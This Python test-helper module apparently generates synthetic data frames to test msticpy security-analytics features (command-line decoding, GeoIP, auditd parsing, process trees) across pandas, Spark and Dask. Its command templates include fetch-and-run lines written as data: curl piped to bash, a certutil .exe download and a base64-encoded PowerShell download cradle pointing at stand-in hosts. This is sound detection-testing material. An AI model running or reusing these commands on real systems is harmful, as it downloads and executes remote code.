"""Small generated inputs for the scale tests: the same frame goes through pandas,
Spark and Dask."""

from __future__ import annotations

import base64
import random
import shutil
from pathlib import Path

import pandas as pd

_TEMPLATES = (
    "curl -s http://{host}/{path}.sh | bash",
    "ping -c 1 {ip}",
    "powershell -enc {b64}",
    "certutil -urlcache -f hxxp://{host}[.]com/{path}.exe",
    "echo {md5} > /tmp/{path}",
    "mail {path}@{host}",
    "ls -la /home/{path}",
    "nslookup {host} {ip}",
)


def command_lines(rows: int, seed: int = 7) -> pd.DataFrame:
    """``rows`` command lines (with some missing cells), an ``id`` and a ``host``."""
    rng = random.Random(seed)
    cells: list[str | None] = []
    for _ in range(rows):
        if rng.random() < 0.05:
            cells.append(None)
            continue
        word = "".join(rng.choice("abcdefgh") for _ in range(6))
        payload = f"IEX (New-Object Net.WebClient).DownloadString('http://{word}.net/a')"
        cells.append(
            rng.choice(_TEMPLATES).format(
                host=f"{word}.example.org",
                path=word,
                ip=f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.7",
                b64=base64.b64encode(payload.encode("utf-16le")).decode(),
                md5="".join(rng.choice("0123456789abcdef") for _ in range(32)),
            )
        )
    return pd.DataFrame(
        {
            "id": list(range(rows)),
            "host": [f"host{i % 3}" for i in range(rows)],
            "CommandLine": cells,
        }
    )


#: Addresses the MaxMind test database and the embedded data locate (and some they do not).
ADDRESSES = (
    "81.2.69.142",
    "10.0.0.1",
    " 89.160.20.112 ",
    None,
    "2001:218::1",
    "not an ip",
    "175.16.199.0",
    "8.8.8.8",
    "216.160.83.56",
    "2a02:ff80::",
)

CITY_DB = Path(__file__).resolve().parents[1] / "data" / "geoip" / "GeoIP2-City-Test.mmdb"


def geo_folder(tmp_path: Path) -> str:
    """A folder holding the MaxMind City test database as GeoLite2-City.mmdb."""
    folder = tmp_path / "geodb"
    folder.mkdir(exist_ok=True)
    shutil.copy(CITY_DB, folder / "GeoLite2-City.mmdb")
    return str(folder)


def same_locations(result: pd.DataFrame, expected: pd.DataFrame) -> None:
    """``result`` has every column and value of ``expected`` (its other columns empty);
    TimeGenerated, the lookup time, differs between runs."""
    assert len(result) == len(expected) > 0
    result = result.reset_index(drop=True)
    for name in result.columns:
        if name == "TimeGenerated":
            continue
        if name in expected:
            assert result[name].tolist() == expected[name].tolist(), name
        else:
            assert result[name].isna().all(), name


def audit_frame(events: int = 60) -> pd.DataFrame:
    """Raw audit lines (the parity generator's, every record type and quirk) with an
    ``id`` and a ``Computer`` column."""
    from parity.auditd_generate import generate_audit_log

    lines = generate_audit_log(11, events)
    return pd.DataFrame(
        {
            "id": list(range(len(lines))),
            "AuditdMessage": lines,
            "Computer": [f"host{i % 2}" for i in range(len(lines))],
        }
    )


def same_audit_events(result: pd.DataFrame, expected: pd.DataFrame) -> None:
    """Equal columns (order too) and values; columns msticpy leaves mixed (numbers among
    text) may come back as text, timestamps as naive UTC."""
    assert list(result.columns) == list(expected.columns)
    assert len(result) == len(expected) > 0
    for name in expected.columns:
        want, got = expected[name].reset_index(drop=True), result[name].reset_index(drop=True)
        if name == "TimeGenerated":
            want = want.dt.tz_convert(None) if want.dt.tz is not None else want
            got = got.dt.tz_convert(None) if got.dt.tz is not None else got
            assert (want.astype("datetime64[us]") == got.astype("datetime64[us]")).all()
            continue
        assert [_text(v) for v in got] == [_text(v) for v in want], name


def _text(value: object) -> str | None:
    """A cell as text; a whole number reads the same as int or float (a partition
    with no text in a mixed column types it as float)."""
    if value is None or value is pd.NA or (isinstance(value, float) and value != value):
        return None
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def process_events(rows: int = 300) -> pd.DataFrame:
    """Windows process-creation events of three hosts (the parity generator's)."""
    from parity.proctree_generate import generate_events

    events = pd.DataFrame(generate_events(rows, seed=3))
    events["TimeGenerated"] = pd.to_datetime(events["TimeGenerated"], utc=True)
    return events.astype({"TimeGenerated": "datetime64[us, UTC]"})


def trees_by_host(events: pd.DataFrame) -> dict[str, pd.DataFrame]:
    """``build_process_tree`` on each host's events alone."""
    from msticpy.transform.proc_tree_builder import build_process_tree

    return {str(host): build_process_tree(group) for host, group in events.groupby("Computer")}


def cluster_sizes(clustered: pd.DataFrame) -> list[int]:
    """The sizes of the clusters ``dbcluster_events`` found, largest first."""
    return sorted(clustered.groupby("ClusterId")["ClusterSize"].first().tolist(), reverse=True)
